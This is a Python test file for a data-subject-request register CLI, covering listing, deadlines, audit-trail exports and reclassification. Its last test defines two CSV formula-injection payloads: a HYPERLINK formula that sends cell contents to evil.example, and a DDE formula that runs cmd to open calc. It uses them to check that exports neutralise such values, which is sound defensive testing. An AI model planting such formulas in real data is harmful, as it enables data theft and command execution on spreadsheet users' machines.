"""``aina-dsr requests``: the register as the operator and other programs read it."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

from sqlalchemy.ext.asyncio import AsyncEngine

from tests.cli_command import aina_dsr, aina_dsr_here
from tests.clocks import FrozenClock
from tests.conftest import STAFF_ID
from workflows.requests.service import RequestService
from workflows.snapshots import Actor

CONTRACT = {
    "reference", "kind", "status", "channel", "language", "received_at", "due_at",
    "verified_by", "customer_matched",
}  # fmt: skip


def env(database_url: str, key: str) -> dict[str, str]:
    return {"DSR_DATABASE_URL": database_url, "DSR_ENCRYPTION_KEY": key}


async def test_a_fresh_database_lists_as_an_empty_json_list(
    engine: AsyncEngine, database_url: str, encryption_key: str, tmp_path: Path
) -> None:
    result = aina_dsr(tmp_path, "requests", "list", "--json", **env(database_url, encryption_key))
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == []


async def test_list_and_show_speak_the_contract(
    service: RequestService,
    clock: FrozenClock,
    database_url: str,
    encryption_key: str,
    tmp_path: Path,
) -> None:
    clock.set(datetime(2026, 1, 5, 4, 0, tzinfo=UTC))  # long past: its deadline is gone
    old = await service.open_request(
        kind="access", channel="telegram", language="kk", telegram_user_id=1
    )
    await service.verify_by_contact(
        old.reference, sender_user_id=1, contact_user_id=1, phone="+77011234567"
    )
    clock.set(datetime(2099, 1, 5, 4, 0, tzinfo=UTC))  # far ahead: not due for years
    new = await service.open_request(
        kind="complaint", channel="email", language="ru", email="a@b.kz"
    )
    await service.cancel(new.reference, Actor.person_email("a@b.kz"))
    settings = env(database_url, encryption_key)

    listed = json.loads(aina_dsr_here(tmp_path, "requests", "list", "--json", **settings).stdout)
    assert [r["reference"] for r in listed] == [old.reference, new.reference]
    first = listed[0]
    assert set(first) >= CONTRACT
    assert first["kind"] == "access" and first["status"] == "verified"
    assert first["verified_by"] == "telegram_contact" and first["customer_matched"] is False
    # 5 January 2026, 09:00 in Almaty; due three working days later (6, 8, 9: the 7th is
    # Orthodox Christmas, a day off), at the end of the local day.
    assert first["received_at"] == "2026-01-05T09:00:00+05:00"
    assert first["due_at"] == "2026-01-09T23:59:59.999999+05:00"
    assert listed[1]["verified_by"] is None

    overdue = json.loads(
        aina_dsr_here(tmp_path, "requests", "list", "--overdue", "--json", **settings).stdout
    )
    assert [r["reference"] for r in overdue] == [old.reference]
    cancelled = json.loads(
        aina_dsr_here(
            tmp_path, "requests", "list", "--status", "cancelled", "--json", **settings
        ).stdout
    )
    assert [r["reference"] for r in cancelled] == [new.reference]

    shown = json.loads(
        aina_dsr_here(tmp_path, "requests", "show", old.reference, "--json", **settings).stdout
    )
    assert CONTRACT | {"events"} <= set(shown)
    assert [e["action"] for e in shown["events"]] == ["opened", "verify"]

    missing = aina_dsr_here(tmp_path, "requests", "show", "DSR-2026-999999", **settings)
    assert missing.returncode == 1 and "DSR-2026-999999" in missing.stderr
    bad = aina_dsr_here(tmp_path, "requests", "list", "--status", "nonsense", **settings)
    assert bad.returncode == 2 and "nonsense" in bad.stderr


async def test_export_carries_the_audit_trail(
    service: RequestService, database_url: str, encryption_key: str, tmp_path: Path
) -> None:
    view = await service.open_request(
        kind="complaint", channel="telegram", language="en", telegram_user_id=9
    )
    await service.verify_by_contact(
        view.reference, sender_user_id=9, contact_user_id=9, phone="+77011234567"
    )
    await service.reject(view.reference, Actor.staff(STAFF_ID, "Dana"), "not about personal data")
    settings = env(database_url, encryption_key)

    as_csv = aina_dsr_here(tmp_path, "requests", "export", "--format", "csv", **settings)
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert [(r["reference"], r["action"], r["actor"]) for r in rows] == [
        (view.reference, "opened", "person"),
        (view.reference, "verify", "person"),
        (view.reference, "reject", "staff"),
    ]
    assert rows[2]["actor_id"] == str(STAFF_ID) and rows[2]["actor_name"] == "Dana"
    assert "+7701" not in as_csv.stdout and "not about personal data" not in as_csv.stdout

    out = tmp_path / "register.json"
    assert (
        aina_dsr_here(
            tmp_path, "requests", "export", "--format", "json", "-o", str(out), **settings
        ).returncode
        == 0
    )
    [exported] = json.loads(out.read_text(encoding="utf-8"))
    assert exported["status"] == "rejected"
    assert len(exported["events"]) == 3


async def test_an_unclassified_request_lists_as_unclassified_until_staff_pick_its_kind(
    service: RequestService, database_url: str, encryption_key: str, tmp_path: Path
) -> None:
    view = await service.open_request(
        kind="unclassified",
        channel="email",
        language="ru",
        email="a@b.kz",
        candidates=("complaint", "access"),
    )
    settings = env(database_url, encryption_key)

    (listed,) = json.loads(aina_dsr_here(tmp_path, "requests", "list", "--json", **settings).stdout)
    assert (listed["kind"], listed["candidates"]) == ("unclassified", ["access", "complaint"])
    # Access's three working days from Tuesday 24 November 2026.
    assert listed["due_at"] == "2026-11-27T23:59:59.999999+05:00"
    shown = json.loads(
        aina_dsr_here(tmp_path, "requests", "show", view.reference, "--json", **settings).stdout
    )
    assert shown["kind"] == "unclassified"

    await service.change_kind(view.reference, Actor.staff(STAFF_ID, "Dana"), "complaint")
    shown = json.loads(
        aina_dsr_here(tmp_path, "requests", "show", view.reference, "--json", **settings).stdout
    )
    assert shown["kind"] == "complaint"
    assert shown["due_at"] == "2026-12-24T23:59:59.999999+05:00"
    changed = shown["events"][-1]
    assert (changed["action"], changed["details"]["from"], changed["details"]["to"]) == (
        "kind_changed",
        "unclassified",
        "complaint",
    )


# A formula a spreadsheet would run: it sends the cells beside it to someone else's server.
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


async def test_export_csv_neutralises_a_staff_name_a_spreadsheet_would_run(
    service: RequestService, database_url: str, encryption_key: str, tmp_path: Path
) -> None:
    # A Telegram display name is whatever its owner typed, staff included.
    view = await service.open_request(
        kind="complaint", channel="telegram", language="en", telegram_user_id=9
    )
    await service.verify_by_contact(
        view.reference, sender_user_id=9, contact_user_id=9, phone="+77011234567"
    )
    await service.take(view.reference, Actor.staff(STAFF_ID, LEAK))
    await service.reject(view.reference, Actor.staff(5002, CALC), "no")
    settings = env(database_url, encryption_key)

    out = tmp_path / "register.csv"
    written = aina_dsr_here(tmp_path, "requests", "export", "-o", str(out), **settings)
    assert written.returncode == 0, written.stderr
    printed = aina_dsr_here(tmp_path, "requests", "export", "--format", "csv", **settings)
    assert printed.stdout == out.read_text(encoding="utf-8")

    rows = list(csv.DictReader(io.StringIO(printed.stdout)))
    names = {r["action"]: r["actor_name"] for r in rows}
    assert names["take"] == "'" + LEAK
    assert names["reject"] == "'" + CALC
    # No cell of the file starts a formula; the ordinary ones are as they were.
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", value
    assert rows[0]["reference"] == view.reference and rows[0]["actor"] == "person"

    # JSON is for programs, not spreadsheets: its values stay exactly as recorded.
    as_json = aina_dsr_here(tmp_path, "requests", "export", "--format", "json", **settings)
    [exported] = json.loads(as_json.stdout)
    assert [e["actor_name"] for e in exported["events"]][2:] == [LEAK, CALC]
